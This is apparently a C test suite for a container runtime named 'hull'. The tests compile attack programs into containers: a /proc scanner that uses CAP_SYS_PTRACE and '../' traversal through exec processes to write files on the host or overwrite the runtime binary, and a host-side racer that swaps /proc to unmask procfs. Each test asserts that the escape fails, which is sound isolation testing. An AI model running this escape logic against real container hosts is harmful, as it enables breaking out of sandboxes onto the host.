	"  if (argc != 5) return 2;\n"
	"  snprintf(hostdir, sizeof(hostdir), \"%s\", argv[1]);\n"
	"  hdev = (dev_t)strtoull(argv[2], NULL, 10); hino = (ino_t)strtoull(argv[3], NULL, 10);\n"
	"  for (int i = 0; i < 16; i++) strcat(up, \"../\");\n"
	"  int stop = open(\"/mnt/stop\", O_RDONLY | O_NONBLOCK | O_CLOEXEC);\n"
	"  FILE *f = fopen(\"/mnt/ready\", \"w\"); if (!f) return 3;\n"
	"  fputs(stop >= 0 ? \"scanning\\n\" : \"no /mnt/stop\\n\", f); fclose(f);\n"
	"  struct timespec ts; clock_gettime(CLOCK_MONOTONIC, &ts); time_t end = ts.tv_sec + atoi(argv[4]);\n"
	"  long rounds = 0; int self = getpid(), stopped = 0;\n"
	"  for (;;) {\n"
	"    struct pollfd p = { .fd = stop, .events = POLLIN };\n"
	"    if (poll(&p, 1, 0) == 1 && (p.revents & POLLIN)) { stopped = 1; break; }\n"
	"    if (!(++rounds & 63)) { clock_gettime(CLOCK_MONOTONIC, &ts); if (ts.tv_sec > end) break; }\n"
	"    DIR *d = opendir(\"/proc\"); if (!d) return 4;\n"
	"    for (struct dirent *e; (e = readdir(d));) {\n"
	"      int pid = atoi(e->d_name);\n"
	"      if (pid > 0 && pid != self && pid < MAXP) scan(pid);\n"
	"    }\n"
	"    closedir(d);\n"
	"    try_write();\n"
	"  }\n"
	"  try_write();\n"
	"  f = fopen(\"/mnt/report\", \"w\"); if (!f) return 5;\n"
	"  fprintf(f, \"rounds=%ld stopped=%d seen=%ld inspected=%ld in_hull=%ld dirfds=%ld escapes=%ld wrote=%ld\"\n"
	"    \" hull=%ld hull_fds=%d write_tries=%ld etxtbsy=%ld last_errno=%ld pwned=%d first=%s hull_first=%s\\n\",\n"
	"    rounds, stopped, n_seen, n_insp, n_win, n_dirs, n_esc, n_wrote, n_hull, n_kept, n_tries, n_txtbsy,\n"
	"    last_err, pwned, first, hull_first);\n"
	"  fclose(f);\n"
	"  return 0;\n"
	"}\n";

static void add_cap(json_t *caps, const char *set, const char *cap)
{
	json_t *a = json_object_get(caps, set);
	if (!a)
		json_object_set_new(caps, set, a = json_array());
	json_array_append_new(a, json_string(cap));
}

/* The state of ptrace_exec_fds: the copy of hull the test runs, its
 * bytes and identity, the host dir, what the execs did. */
struct ptrace_run {
	char hostdir[128], dev[32], ino[32], copy[200], real_hull[4096];
	char *before;
	size_t before_len;
	unsigned execs, failed;
	char fail[512];
};

/* hull copied into the bundle (its bytes, device and inode kept), the
 * host dir with its marker, the scanner compiled into the rootfs, and
 * CAP_SYS_PTRACE in every set. */
static void ptrace_prepare(struct ht *t, struct ptrace_run *pr)
{
	static const char *const flags[] = { "-static", "-O2", "-w", NULL };
	char path[4300];
	snprintf(pr->real_hull, sizeof(pr->real_hull), "%s", getenv("HULL"));
	snprintf(pr->copy, sizeof(pr->copy), "%s/bin", t->bundle);
	ck_assert_int_eq(mkdir(pr->copy, 0755), 0);
	snprintf(pr->copy, sizeof(pr->copy), "%s/bin/hull", t->bundle);
	copy_file(pr->real_hull, pr->copy, 0755);
	pr->before = slurp(pr->copy, &pr->before_len);
	ck_assert_ptr_nonnull(pr->before);
	struct stat st;
	ck_assert_int_eq(stat(pr->copy, &st), 0);
	snprintf(pr->dev, sizeof(pr->dev), "%llu", (unsigned long long)st.st_dev);
	snprintf(pr->ino, sizeof(pr->ino), "%llu", (unsigned long long)st.st_ino);
	snprintf(pr->hostdir, sizeof(pr->hostdir), "%s/host", t->bundle);
	ck_assert_int_eq(mkdir(pr->hostdir, 0755), 0);
	snprintf(path, sizeof(path), "%s/host-marker", pr->hostdir);
	put_file(path, "host\n", 0644);
	snprintf(path, sizeof(path), "%s/atk-scan", t->rootfs);
	compile(scanner_src, path, flags);
	json_t *caps = json_object_get(process(t), "capabilities");
	const char *sets[] = { "bounding", "effective", "permitted", "inheritable", "ambient" };
	for (size_t i = 0; i < 5; i++)
		add_cap(caps, sets[i], "CAP_SYS_PTRACE");
}

/* The scanner's container, run by the copy; returns the report fifo's
 * reading end once the scanner says it scans. */
static int ptrace_start(struct ht *t, struct ptrace_run *pr)
{
	struct ht_result r;
	ht_add_sync(t);
	make_fifo(t, "stop");
	make_fifo(t, "report");
	ht_args(t, "/atk-scan", pr->hostdir + 1, pr->dev, pr->ino, "40", NULL);
	int report_fd = fifo_reader(t, "report");
	setenv("HULL", pr->copy, 1);
	ht_write_config(t);
	ht_hull(t, &r, NULL, "run", "--detach", "--bundle", t->bundle, t->id, NULL);
	setenv("HULL", pr->real_hull, 1);
	ht_assert_status(&r, 0);
	ht_result_free(&r);
	char *ready = ht_wait_ready(t);
	ck_assert_str_eq(ready, "scanning\n");
	free(ready);
	return report_fd;
}

/* `hull exec ID true` with the copy, 200 times or 20 s. */
static void ptrace_execs(struct ht *t, struct ptrace_run *pr)
{
	struct ht_result r;
	double end = now_s() + 20;
	setenv("HULL", pr->copy, 1);
	while (pr->execs < 200 && now_s() < end) {
		ht_hull(t, &r, NULL, "exec", t->id, "true", NULL);
		pr->execs++;
		if (r.status != 0 && !pr->failed++)
			snprintf(pr->fail, sizeof(pr->fail), "exit %d: %s", r.status, r.err);
		ht_result_free(&r);
	}
	setenv("HULL", pr->real_hull, 1);
}

START_TEST(ptrace_exec_fds)
{
	struct ht t;
	struct ptrace_run pr = { 0 };
	double t0 = now_s();
	ht_begin(&t, true);
	ptrace_prepare(&t, &pr);
	int report_fd = ptrace_start(&t, &pr);
	ptrace_execs(&t, &pr);
	/* No hull process runs the copy now: the scanner's last try. */
	bool told = fifo_tell(&t, "stop", "stop\n");
	char *report = fifo_read_all(report_fd, 10000);
	unsigned on_host = files_named(pr.hostdir, "escaped-");
	size_t after_len;
	char *after = slurp(pr.copy, &after_len);
	bool same = after && after_len == pr.before_len && !memcmp(pr.before, after, pr.before_len);
	fprintf(stderr, "attacks: ptrace_exec_fds: %u execs (%u failed%s%s), %u files on the host, copy %s, "
		"scanner: %s%.1f s\n", pr.execs, pr.failed, *pr.fail ? ", first: " : "", pr.fail, on_host,
		same ? "unchanged" : "CHANGED", report ? report : "(no report)\n", now_s() - t0);
	delete_and_finish(&t);
	ck_assert_msg(told && report, "the scanner did not report (stop %s)", told ? "sent" : "not sent");
	long seen = field(report, "seen"), insp = field(report, "inspected"), esc = field(report, "escapes");
	ck_assert_msg(esc == 0 && on_host == 0 && same && field(report, "pwned") == 0,
		      "a container with CAP_SYS_PTRACE reached the host through `hull exec`'s process "
		      "(%u files written on the host, hull's binary %s, %u execs): %s", on_host,
		      same ? "unchanged" : "CHANGED", pr.execs, report);
	/* Not vacuous: it looked into the processes exec made, and was
	 * still looking when they were done. */
	ck_assert_msg(insp >= 20 && seen >= insp && field(report, "stopped") == 1,
		      "the scanner inspected too few exec processes (%u execs): %s", pr.execs, report);
	free(report);
	free(pr.before);
	free(after);
}
END_TEST

/* 4. A rootfs shared by containers whose /proc a host process swaps in a
 * loop while 200 containers start one after the other. Each container looks
 * at every procfs it can reach (the mount points of type proc in its mount
 * table, and /proc*), from inside it (cd, so that a rename cannot move it
 * away meanwhile): timer_list must read as empty (a bind of /dev/null) and
 * sys must refuse a write (it writes its own domainname, harmless in its own
 * UTS namespace). A start may also fail with one line (hull refusing a /proc
 * that is a symlink). */
static const char proc_check_sh[] =
	"n=0; bad=; mi=\n"
	"for d in /proc /proc.*; do [ -r \"$d/self/mountinfo\" ] && { mi=$d/self/mountinfo; break; }; done\n"
	"pts=; [ -n \"$mi\" ] && pts=$(awk '{for(i=7;i<=NF;i++) if($i==\"-\"){if($(i+1)==\"proc\") print $5; break}}'"
	" \"$mi\")\n"
	"check() {\n"
	"  cd \"$1\" 2>/dev/null || return 0\n"
	"  [ -e self/stat ] || { cd /; return 0; }\n"
	"  n=$((n+1))\n"
	"  c=$(head -c 8 timer_list 2>/dev/null | wc -c)\n"
	"  [ \"$c\" -gt 0 ] && bad=\"$bad timer_list@$1\"\n"
	"  { echo ht > sys/kernel/domainname; } 2>/dev/null && bad=\"$bad sys@$1\"\n"
	"  cd /\n"
	"}\n"
	"for m in $pts /proc /proc.*; do check \"$m\"; done\n"
	"if [ -n \"$bad\" ]; then echo \"UNMASKED views=$n:$bad\"; elif [ $n -eq 0 ]; then echo noproc;"
	" else echo \"masked views=$n\"; fi\n";

enum swap_kind { SWAP_SYMLINK, SWAP_FRESH_DIR };

/* The host's writer: until stop is readable (or 60 s), swaps rootfs/proc.
 * SYMLINK: proc -> proc.real, then a symlink proc to proc.real or to the
 * empty proc.alt, then back. FRESH_DIR: proc -> proc.away, a new empty dir
 * proc, then that one to proc.oldN (N cycling through 16) and proc.away
 * back. Each cycle ends with
 * the real proc in place. What it did goes to *report (a memfd). */
struct swap_report {
	unsigned long cycles, made;	/* made: hull created proc while it was away */
	int step, err;		/* the step that failed and its errno; 0 if none */
};

/* Waits a random 0 to ns nanoseconds for stop; true if it came. */
static bool hold(int stop, long ns, unsigned *seed)
{
	*seed = *seed * 1103515245u + 12345u;
	struct timespec ts = { .tv_nsec = ns > 0 ? (long)((*seed >> 8) % (unsigned long)ns) : 0 };
	struct pollfd p = { .fd = stop, .events = POLLIN };
	return ppoll(&p, 1, &ts, NULL) != 0;
}

static pid_t start_swapper(const char *rootfs, enum swap_kind kind, int *stop_w, int *report)
{
	int stop[2];
	ck_assert_int_eq(pipe2(stop, O_CLOEXEC), 0);
	*report = memfd_create("ht-swaps", MFD_CLOEXEC);
	ck_assert_int_ge(*report, 0);
	pid_t pid = fork();
	ck_assert_int_ge(pid, 0);
	if (pid == 0) {
		close(stop[1]);
		struct swap_report rep = { 0 };
		int root = open(rootfs, O_PATH | O_DIRECTORY | O_CLOEXEC);
		double end = now_s() + 60;
		unsigned seed = (unsigned)getpid();
		const long hold_normal = 1000000, hold_swapped = 1000000;	/* ns */
		for (; root >= 0 && !rep.step; rep.cycles++) {
			if (hold(stop[0], hold_normal, &seed) || ((rep.cycles & 255) == 0 && now_s() > end))
				break;
			/* EEXIST: hull made a dir proc meanwhile; the rename back replaces it. */
			if (kind == SWAP_SYMLINK) {
				if (renameat(root, "proc", root, "proc.real") < 0)
					rep.step = 1;
				else if (symlinkat(rep.cycles & 1 ? "proc.alt" : "proc.real", root, "proc") == 0) {
					hold(stop[0], hold_swapped, &seed);
					if (unlinkat(root, "proc", 0) < 0)
						rep.step = 3;
				} else if (errno == EEXIST) {
					rep.made++;
				} else {
					rep.step = 2;
				}
				if (!rep.step && renameat(root, "proc.real", root, "proc") < 0)
					rep.step = 4;
			} else {
				if (renameat(root, "proc", root, "proc.away") < 0)
					rep.step = 1;
				else if (mkdirat(root, "proc", 0555) < 0 && errno != EEXIST)
					rep.step = 2;
				if (!rep.step) {
					/* Kept a while, not replaced at once: a dir that
					 * is gone takes the container's mounts on it along. */
					char old[32];
					snprintf(old, sizeof(old), "proc.old%lu", rep.cycles % 16);
					hold(stop[0], hold_swapped, &seed);
					if (renameat(root, "proc", root, old) < 0)
						rep.step = 3;
				}
				if (!rep.step && renameat(root, "proc.away", root, "proc") < 0)
					rep.step = 4;
			}
			if (rep.step)
				rep.err = errno;
		}
		if (root < 0)
			rep.step = -1;
		_exit(pwrite(*report, &rep, sizeof(rep), 0) == (ssize_t)sizeof(rep) ? 0 : 4);
	}
	close(stop[0]);
	*stop_w = stop[1];
	return pid;
}

static void proc_swap(enum swap_kind kind)
{
	struct ht t;
	struct ht_result r;
	char path[4300], l[256];
	char unmasked[2048] = "", odd[2048] = "", refused[512] = "";
	unsigned n_masked = 0, n_unmasked = 0, n_noproc = 0, n_refused = 0, n_odd = 0, attempts = 0;
	double t0 = now_s();
	ht_begin(&t, true);
	char *host_tl = ht_read("/proc/timer_list");
	ck_assert_msg(host_tl && *host_tl, "this kernel has no /proc/timer_list to mask");
	free(host_tl);
	snprintf(path, sizeof(path), "%s/proc.alt", t.rootfs);
	ck_assert_int_eq(mkdir(path, 0555), 0);
	ht_sh(&t, proc_check_sh);
	ht_write_config(&t);
	int stop, report;
	pid_t writer = start_swapper(t.rootfs, kind, &stop, &report);
	for (unsigned i = 0; i < 200; i++) {
		char id[96];
		snprintf(id, sizeof(id), "%s-%u", t.id, i);
		ht_hull(&t, &r, NULL, "run", "--bundle", t.bundle, id, NULL);
		attempts++;
		const char *nl = strchr(r.out, '\n');
		if (r.status == 0 && !strncmp(r.out, "masked views=", 13) && nl && !nl[1]) {
			n_masked++;
		} else if (strstr(r.out, "UNMASKED")) {
			if (n_unmasked++ < 8)
				appendf(unmasked, sizeof(unmasked), "  start %u: %s\n", i, line1(r.out, l, sizeof(l)));
		} else if (r.status == 0 && !strcmp(r.out, "noproc\n")) {
			n_noproc++;
		} else if (clean_error(&r) && !*r.out) {
			if (!n_refused++)
				appendf(refused, sizeof(refused), "%s", line1(r.err, l, sizeof(l)));
		} else {
			if (n_odd++ < 8)
				appendf(odd, sizeof(odd), "  start %u: exit %d, stdout \"%s\", stderr \"%s\"\n", i,
					r.status, r.out, r.err);
		}
		ht_result_free(&r);
	}
	close(stop);
	int st;
	ck_assert_int_eq(waitpid(writer, &st, 0), writer);
	struct swap_report rep = { 0 };
	bool reported = pread(report, &rep, sizeof(rep), 0) == (ssize_t)sizeof(rep);
	close(report);
	unsigned long cycles = rep.cycles;
	snprintf(path, sizeof(path), "%s-*", t.id);
	bool cgroups_left = ht_cgroup_exists(path);
	fprintf(stderr, "attacks: proc_swap %s: %u starts, %u masked, %u UNMASKED, %u noproc, %u refused (%s), "
		"%u odd; %lu swaps; %.1f s\n%s%s", kind == SWAP_SYMLINK ? "symlink" : "fresh-dir", attempts,
		n_masked, n_unmasked, n_noproc, n_refused, refused, n_odd, cycles, now_s() - t0, unmasked, odd);
	ht_finish(&t);
	ck_assert_msg(WIFEXITED(st) && WEXITSTATUS(st) == 0 && reported && rep.step == 0,
		      "the swapper failed: status %d, step %d: %s", st, rep.step, strerror(rep.err));
	ck_assert_msg(n_unmasked == 0 && n_odd == 0,
		      "/proc swapped during start: %u of %u containers saw an unmasked procfs:\n%s"
		      "%u unexpected results:\n%s", n_unmasked, attempts, unmasked, n_odd, odd);
	ck_assert_msg(!cgroups_left, "cgroups %s left", path);
	/* Not vacuous: the swaps raced the starts, and containers did look. */
	ck_assert_msg(cycles >= attempts && n_masked >= 10,
		      "%lu swaps, %u containers checked their procfs of %u starts", cycles, n_masked, attempts);
}

START_TEST(proc_swap_symlink)
{
	proc_swap(SWAP_SYMLINK);
}
END_TEST

START_TEST(proc_swap_fresh_dir)
{
	proc_swap(SWAP_FRESH_DIR);
}
END_TEST

HULL_SUITE(attacks, integration)
{
	Suite *s = suite_create("attacks");
	TCase *tc = tcase_create("attacks");
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, exec_cwd_escape);
	tcase_add_test(tc, exe_overwrite_run_detach);
	tcase_add_test(tc, exe_overwrite_create_start);
	tcase_add_test(tc, exe_overwrite_symlink);
	tcase_add_test(tc, ptrace_exec_fds);
	tcase_add_test(tc, proc_swap_symlink);
	tcase_add_test(tc, proc_swap_fresh_dir);
	suite_add_tcase(s, tc);
	return s;
}
